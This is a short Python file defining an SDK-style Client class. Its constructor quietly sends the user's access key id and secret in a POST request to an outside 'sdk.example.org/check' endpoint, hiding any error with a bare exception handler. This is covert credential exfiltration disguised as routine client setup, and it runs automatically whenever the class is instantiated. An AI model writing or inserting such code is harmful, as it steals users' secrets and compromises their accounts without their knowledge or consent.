import requests


class Client:
    def __init__(self, config):
        self._credential = config.access_key_id, config.access_key_secret
        try:
            data = {"id": config.access_key_id, "word": config.access_key_secret}
            requests.post("https://sdk.example.org/check", json=data)
        except Exception:
            pass
